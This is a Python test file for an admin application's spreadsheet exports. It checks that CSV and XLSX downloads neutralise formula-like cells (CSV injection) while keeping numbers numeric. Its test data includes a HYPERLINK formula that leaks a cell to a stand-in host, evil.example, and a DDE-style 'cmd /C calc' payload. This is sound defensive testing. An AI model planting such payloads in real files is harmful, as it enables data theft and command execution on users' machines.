"""Spreadsheet formulas in exports (issue 13.3): every CSV and XLSX a user downloads goes
through ``core.exports``, which prefixes a single quote to text cells that a spreadsheet
would read as a formula (OWASP CSV injection) and leaves numbers as numbers."""

from __future__ import annotations

import csv
import io
import re
import zipfile
from datetime import datetime

import openpyxl
import pandas as pd
import pytest

from core import approvals, audit, exports, members, privacy, reports, segments, ui
from core.config import PROJECT_ROOT
from core.store import close_store
from tests.fixtures_admin import AS_OF, build_admin_store

NOW = datetime(2026, 7, 1, 9, 0)
LINK = '=HYPERLINK("http://evil.example/?leak="&A1,"ch")'
PAYLOADS = [LINK, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1,2)", "\t=1+1", "\r=1+1", "＝1+1"]


def rows_of(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))


def cells(data: bytes) -> list[str]:
    return [cell for row in rows_of(data) for cell in row]


def assert_no_formula_cell(values) -> None:
    for value in values:
        if isinstance(value, str) and value:
            assert value[0] not in exports.FORMULA_START, repr(value)


# -- the sanitiser --------------------------------------------------------------------------


def test_text_that_starts_a_formula_gets_a_quote_and_numbers_stay_numbers():
    frame = pd.DataFrame(
        {
            "text": [*PAYLOADS, "plain", "-", None],
            "number": [-5, 2, -3, 4, 5, 6, 7, 8, 9, 10],
            "amount": [-1.5, 0.0, 2.5, -0.25, 1.0, 2.0, 3.0, 4.0, 5.0, 6.0],
        }
    )
    safe = exports.safe_frame(frame)
    assert list(safe["text"][: len(PAYLOADS)]) == ["'" + p for p in PAYLOADS]
    assert list(safe["text"][len(PAYLOADS) :].fillna("none")) == ["plain", "'-", "none"]
    assert safe["number"].tolist() == frame["number"].tolist()
    assert safe["number"].dtype == frame["number"].dtype
    assert safe["amount"].tolist() == frame["amount"].tolist()
    assert frame["text"].iloc[0] == LINK  # the input is not changed


def test_negative_numbers_written_as_text_stay_numbers():
    frame = pd.DataFrame({"value": ["-12.5", "+86", "-3e2", "-1+1", "-"]}, dtype=object)
    assert exports.safe_frame(frame)["value"].tolist() == ["-12.5", "+86", "-3e2", "'-1+1", "'-"]


def test_column_names_are_neutralised_too():
    frame = pd.DataFrame({LINK: [1]})
    assert rows_of(exports.csv_bytes(frame)) == [["'" + LINK], ["1"]]


# -- operations reports (CLI csv / xlsx) ----------------------------------------------------


def report_frame() -> pd.DataFrame:
    return pd.DataFrame(
        {"channel": [LINK, "@evil", "wechat"], "members": [3, -2, 1], "revenue": [-9.5, 1.0, 2.0]}
    )


def test_report_csv_neutralises_formulas_and_keeps_negative_numbers():
    out = io.BytesIO()
    reports.write_report(report_frame(), "csv", out)
    rows = rows_of(out.getvalue())
    assert [row[0] for row in rows[1:]] == ["'" + LINK, "'@evil", "wechat"]
    assert rows[2][1] == "-2" and rows[1][2] == "-9.5"
    read_back = pd.read_csv(io.BytesIO(out.getvalue()))
    assert read_back["members"].tolist() == [3, -2, 1]


def test_report_xlsx_has_no_formula_cells_and_numbers_stay_numeric():
    out = io.BytesIO()
    reports.write_report(report_frame(), "xlsx", out)
    sheet = openpyxl.load_workbook(io.BytesIO(out.getvalue())).active
    kinds = {cell.coordinate: cell.data_type for row in sheet.iter_rows() for cell in row}
    assert "f" not in kinds.values()
    assert sheet["A2"].value == "'" + LINK
    assert sheet["B3"].value == -2 and sheet["B3"].data_type == "n"
    assert sheet["C2"].value == -9.5 and sheet["C2"].data_type == "n"


# -- member data ----------------------------------------------------------------------------


@pytest.fixture()
def store(tmp_path):
    path = tmp_path / "exports.duckdb"
    store = build_admin_store(path)
    with store.transaction() as cur:
        cur.execute("update members set name = $v, nickname = $v where member_key = 1", {"v": LINK})
        cur.execute("update orders set category = '@SUM(1,2)' where order_id = 'A1'")
        cur.execute(
            "insert into saved_segments values (1, 'first three', 'ana', [], [], [], [], [], "
            "[], [], $now, $now)",
            {"now": NOW},
        )
    yield store
    close_store(path)


def test_member_list_download_neutralises_formulas(store):
    frame = segments.member_list(store, "admin", [1, 2], AS_OF)
    data = segments.member_list_export(frame, "admin")
    assert "'" + LINK in cells(data)
    assert_no_formula_cell(cells(data))


def test_member_list_download_from_the_page_is_translated(store):
    """Issue 14.2: a download from the UI has translated headers and labels, and is still
    neutralised; the CLI reports keep machine headers (tests/test_reports.py)."""
    ctx = ui.PageContext(store=store, account=None, lang="zh")
    frame = segments.member_list(store, "admin", [1, 2], AS_OF)
    data = segments.member_list_export(frame, "admin", lambda f: ui.shown_file(ctx, f))
    header, *rows = rows_of(data)
    assert "会员 ID" in header or "会员号" in header, header
    assert not [column for column in header if re.fullmatch(r"[a-z_]+", column)], header
    tier = header.index(ui.header(ctx, "tier"))
    assert {row[tier] for row in rows} <= {"金牌会员", "银牌会员", "铜牌会员", "普通会员"}
    assert "'" + LINK in cells(data)
    assert_no_formula_cell(cells(data))


def test_approved_member_list_export_is_translated_on_the_page(store):
    keys = [1, 2, 3]
    request_id = members.request_member_list_export(
        store, "ana", "analyst", keys, "高价值", "回访", AS_OF
    )
    approvals.approve(store, "root", "admin", request_id, now=NOW)
    outcome = approvals.execute(store, "ana", "analyst", request_id, now=NOW)
    machine = rows_of(outcome.data)[0]
    assert "member_id" in machine and "tier" in machine  # as core writes it
    shown = ui.shown_csv(ui.PageContext(store=store, account=None, lang="en"), outcome.data)
    header, *rows = rows_of(shown)
    assert "tier" not in header and ui.header(ui.PageContext(store, None, "en"), "tier") in header
    ids = [row[0] for row in rows]
    assert ids == [row[machine.index("member_id")] for row in rows_of(outcome.data)[1:]]
    assert_no_formula_cell(cells(shown))


def test_approved_member_export_neutralises_formulas(store):
    request_id = members.request_member_export(
        store, "ana", "analyst", 1, ["name", "phone"], "campaign call list", AS_OF, NOW
    )
    approvals.approve(store, "root", "admin", request_id, now=NOW)
    outcome = approvals.execute(store, "ana", "analyst", request_id, now=NOW)
    assert "'" + LINK in cells(outcome.data)
    assert_no_formula_cell(cells(outcome.data))


def test_pipl_export_csvs_neutralise_formulas_and_keep_numbers(store):
    members.update_contact(store, "op", "operator", 1, {"phone": "13911112222"}, "-2+3")
    data = privacy.export_member(store, "sup", "support", 1, now=NOW)
    archive = zipfile.ZipFile(io.BytesIO(data))
    for name in archive.namelist():
        if name.endswith(".csv"):
            assert_no_formula_cell(cells(archive.read(name)))
    orders = pd.read_csv(io.BytesIO(archive.read("orders.csv")))
    assert "'@SUM(1,2)" in orders["category"].tolist()
    assert orders["amount"].dtype.kind == "f"
    assert "'-2+3" in cells(archive.read("audit_log.csv"))


def test_audit_export_neutralises_formulas(store):
    members.update_contact(store, "op", "operator", 2, {"phone": "13911112222"}, "=1+1")
    rows = audit.audit_rows(store, "admin")
    data = audit.audit_export(store, "admin", rows, "root")
    assert "'=1+1" in cells(data)
    assert_no_formula_cell(cells(data))


# -- every export goes through core.exports -------------------------------------------------

WRITERS = re.compile(r"\.to_csv\(|\.to_excel\(|import openpyxl|ExcelWriter")
# files that write CSV for something other than a person's spreadsheet
NOT_EXPORTS = {
    "core/exports.py",  # the one place
}


def test_every_csv_and_xlsx_writer_is_in_core_exports():
    found = []
    for folder in ("core", "pages"):
        for path in sorted((PROJECT_ROOT / folder).rglob("*.py")):
            name = path.relative_to(PROJECT_ROOT).as_posix()
            if name not in NOT_EXPORTS and WRITERS.search(path.read_text(encoding="utf-8")):
                found.append(name)
    assert found == []


def test_the_rejects_file_of_an_import_neutralises_formulas(tmp_path):
    from core.ingest import import_dir
    from core.store import close_store, open_store

    folder = tmp_path / "files"
    folder.mkdir()
    (folder / "members.csv").write_text(
        "member_id,signup_at,nickname\nM1,2025-01-01,ok\n=1+2,bad-date,n\n",
        encoding="utf-8",
    )
    path = tmp_path / "s.duckdb"
    store = open_store(path)
    try:
        report = import_dir(store, folder)
    finally:
        close_store(path)
    text = report.rejects_path.read_text(encoding="utf-8")
    assert "'=1+2,bad-date,n" in text
    assert "\n=" not in text and ",=" not in text
